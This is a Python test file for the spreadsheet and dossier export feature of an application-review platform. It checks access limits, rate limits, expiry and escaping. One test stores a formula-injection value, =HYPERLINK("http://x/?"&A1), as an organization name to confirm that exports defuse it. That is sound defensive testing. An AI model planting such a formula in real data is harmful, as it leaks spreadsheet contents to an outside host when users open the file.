"""The queue as a file: who gets it, what is in it, one at a time, of one moment (attacks 7, 78–81)."""

import hashlib
import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from accounts.models import Membership, Organization
from applications import documents
from applications.casework import dossiers, exporting
from applications.models import Application, Document, QueueExport
from greenmfg import clock
from greenmfg.csv_table import read_csv
from greenmfg.errors import Refused
from greenmfg.files.models import StoredFile
from greenmfg.jobs.models import Job
from tests.crowd import copy

EXPORTS, DOSSIERS = "/queue/exports/", "/queue/dossiers/"
FORMULA = '=HYPERLINK("http://x/?"&A1)'


def ask(client, kind="xlsx", **parameters):
    answer = client.act(EXPORTS, {"kind": kind, **parameters})
    assert answer.headers["Location"] == EXPORTS
    return QueueExport.objects.order_by("-pk").first()


def download(client, export):
    return b"".join(client.get(f"{EXPORTS}{export.pk}/file/").streaming_content)


def taken(client, do_jobs, kind="xlsx", **parameters):
    """The rows of the file by their column titles."""
    export = ask(client, kind, **parameters)
    do_jobs()
    content = download(client, export)
    if kind == "csv":
        head, *rows = read_csv(content)
    else:
        head, *rows = load_workbook(BytesIO(content)).active.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_the_file_holds_what_the_page_shows(story, filed, browse, do_jobs):
    do_jobs()
    client = browse("city_clerk")
    (row,) = taken(client, do_jobs)
    (shown,) = client.get("/queue/").context["rows"]
    assert tuple(row) == exporting.HEAD
    assert (row["申报编号"], row["申报单位"], row["市州"]) == (shown.number, shown.unit, shown.region)
    assert (row["得分"], row["待定得分项"]) == (float(shown.score.total), shown.score.pending)
    assert row["缺项"] == "；".join(map(str, shown.lacks))
    assert row["统一社会信用代码"] == filed.application.organization.uscc
    page = client.get(EXPORTS).text
    assert "审核案件_" in page
    assert ".xlsx" in page


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_every_page_of_what_is_filtered_and_no_more(filed, browse, crowd, do_jobs, kind):
    crowd(205)
    client = browse("city_clerk")
    assert len(taken(client, do_jobs, kind)) == 205
    assert len(taken(client, do_jobs, kind, text="同类企业 2")) == len(
        client.get("/queue/?text=同类企业 2").context["rows"]
    )
    assert taken(client, do_jobs, kind, flag="declared") == []


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_attack_079_a_name_that_is_a_formula_comes_back_as_it_was(filed, browse, do_jobs, kind):
    Organization.objects.filter(pk=filed.application.organization.pk).update(name=FORMULA)
    client = browse("city_clerk")
    assert taken(client, do_jobs, kind)[0]["申报单位"] == FORMULA
    content = download(client, QueueExport.objects.get())
    if kind == "csv":
        assert f"\"'{FORMULA[:10]}".encode() in content
    else:
        assert load_workbook(BytesIO(content)).active["B2"].data_type == "s"


def test_attack_080_only_own_rows_and_allowed_columns_are_in_the_file(filed, browse, do_jobs):
    unit = filed.application.organization
    assert taken(browse("neighbour"), do_jobs) == []
    content = download(browse("neighbour"), QueueExport.objects.get())
    with zipfile.ZipFile(BytesIO(content)) as book:
        inside = b"".join(book.read(name) for name in book.namelist()).decode()
        names = " ".join(book.namelist())
    for secret in (unit.name, unit.uscc, filed.application.number, "长沙", "neighbour", "example.com", "138"):
        assert secret not in inside
    assert "custom" not in names
    properties = load_workbook(BytesIO(content)).properties
    assert properties.creator == "绿色制造体系申报评价平台"
    assert not any((properties.lastModifiedBy, properties.title, properties.subject, properties.description))
    own = taken(browse("city_clerk"), do_jobs, "csv")
    assert [tuple(row) for row in own] == [exporting.HEAD]


def test_a_file_is_the_person_s_alone(filed, browse, do_jobs):
    export = ask(browse("city_clerk"))
    assert browse("city_clerk").get(f"{EXPORTS}{export.pk}/file/").status_code == 409
    do_jobs()
    for name in ("city_approver", "neighbour", "province_clerk", "far_department"):
        for page in ("file", "progress"):
            assert browse(name).get(f"{EXPORTS}{export.pk}/{page}/").status_code == 404
        assert export.filename not in browse(name).get(EXPORTS).text
    answer = browse("city_clerk").get(f"{EXPORTS}{export.pk}/file/")
    assert answer.headers["Cache-Control"] == "private, no-store"
    assert "attachment" in answer.headers["Content-Disposition"]


def test_attack_081_the_same_export_twice_is_one_and_another_waits_its_turn(filed, browse, do_jobs):
    client = browse("city_clerk")
    first, again = ask(client), ask(client)
    second = ask(client, flag="declared")
    assert (first, QueueExport.objects.count()) == (again, 2)
    assert "等待中" in client.get(f"{EXPORTS}{first.pk}/progress/").text
    other = ask(browse("city_approver"))

    assert exporting.jobs.run(second.job_id)  # a second worker takes it while the first is not done
    second.refresh_from_db()
    second.job.refresh_from_db()
    assert (second.file, second.job.state, second.job.attempts) == (None, Job.State.QUEUED, 0)
    assert exporting.jobs.run(other.job_id)  # another person need not wait
    other.refresh_from_db()
    assert other.file

    do_jobs()
    assert [row.file is not None for row in QueueExport.objects.all()] == [True, True, True]
    assert ask(client) != first  # what is made is of its moment; asked for again, it is made again


def test_attack_081_the_next_is_sent_for_as_soon_as_the_first_is_made(
    filed, browse, monkeypatch, django_capture_on_commit_callbacks
):
    client = browse("city_clerk")
    first, second = ask(client), ask(client, flag="declared")
    sent = []
    monkeypatch.setattr(exporting.jobs, "_send", sent.append)
    with django_capture_on_commit_callbacks(execute=True):
        exporting.jobs.run(first.job_id)
    assert sent == [second.job_id]


def test_attack_081_twenty_of_a_person_are_enough(filed, browse):
    client = browse("city_clerk")
    for number in range(20):
        ask(client, text=f"{number}")
    answer = client.act(EXPORTS, {"kind": "csv"})
    assert (answer.status_code, QueueExport.objects.count()) == (409, 20)
    assert "请等它们完成后再导出" in answer.text


def test_who_has_left_gets_no_file(filed, browse, world, do_jobs):
    export = ask(browse("city_clerk"))
    Membership.objects.filter(user=world.city_clerk.user).delete()
    do_jobs()
    export.job.refresh_from_db()
    assert (export.job.state, export.job.reason) == (Job.State.DEAD, "您已不是该单位的成员，文件不再生成。")


def test_after_a_day_it_is_gone(filed, browse, do_jobs):
    client = browse("city_clerk")
    export = ask(client)
    do_jobs()
    file = QueueExport.objects.get().file
    with clock.override(clock.read() + timedelta(hours=23)):
        exporting.purge_exports()
        assert client.get(EXPORTS).status_code in {200, 302}
    assert QueueExport.objects.exists()
    with clock.override(clock.read() + timedelta(hours=25)):
        assert browse("city_clerk").get(f"{EXPORTS}{export.pk}/file/").status_code == 404
        exporting.purge_exports()
    assert not QueueExport.objects.exists()
    file.refresh_from_db()
    assert file.state == StoredFile.State.DISCARDED


def test_a_kind_nobody_offers_is_refused(filed, browse):
    assert browse("city_clerk").act(EXPORTS, {"kind": "pdf"}).status_code == 422


def test_dossiers_of_chosen_cases_come_as_one_file(filed, browse, do_jobs):
    case = filed.application
    client = browse("city_clerk")
    assert "导出所选申报的案卷" in client.get("/queue/").text
    assert client.act(DOSSIERS, {"application": [case.pk]}).headers["Location"] == EXPORTS
    export = QueueExport.objects.get()
    assert "hx-get" in client.get(f"{EXPORTS}{export.pk}/progress/").text
    do_jobs()
    export.refresh_from_db()
    assert (export.rows, export.job.done_steps, export.job.all_steps) == (1, 2, 2)
    assert export.filename.startswith("申报案卷_")
    with zipfile.ZipFile(BytesIO(download(client, export))) as packed:
        (name,) = packed.namelist()
        content = packed.read(name)
    assert name == f"{case.number}_{case.organization.name}_申报案卷.pdf"
    made = Document.objects.get(kind=Document.DOSSIER)
    assert hashlib.sha256(content).hexdigest() == made.file.sha256
    for other in ("city_approver", "province_clerk"):
        assert browse(other).get(f"{EXPORTS}{export.pk}/file/").status_code == 404


def test_dossiers_foreign_none_or_too_many_are_refused(filed, browse, monkeypatch):
    case = filed.application
    assert browse("neighbour").act(DOSSIERS, {"application": [case.pk]}).status_code == 404
    client = browse("city_clerk")
    assert client.act(DOSSIERS).status_code == 422
    monkeypatch.setattr(exporting, "MAX_DOSSIERS", 1)
    assert "请选择 1 至 1 个申报" in client.act(DOSSIERS, {"application": [case.pk, case.pk + 1]}).text
    assert not QueueExport.objects.exists()


def test_a_dossier_that_cannot_be_made_stops_no_other(filed, browse, crowd, do_jobs, monkeypatch):
    """Of two, each in a run of its own, the first fails for good."""
    crowd(2)
    twin = Application.objects.exclude(pk=filed.application.pk).get()
    copy(filed, application=twin, receipt=f"{twin.number}-1").save()
    monkeypatch.setattr(dossiers, "SECONDS", -1)
    make = documents.render_dossier

    def fail(*, document, progress):
        if document.application == filed.application:
            raise Refused("证明材料过多或过于复杂")
        make(document=document, progress=progress)

    monkeypatch.setattr(documents, "render_dossier", fail)
    client = browse("city_clerk")
    client.act(DOSSIERS, {"application": [filed.application.pk, twin.pk]})
    do_jobs()
    do_jobs()
    export = QueueExport.objects.get()
    assert export.rows == 1
    with zipfile.ZipFile(BytesIO(download(client, export))) as packed:
        assert len(packed.namelist()) == 2
        assert filed.application.number in packed.read("未能生成的案卷.txt").decode()
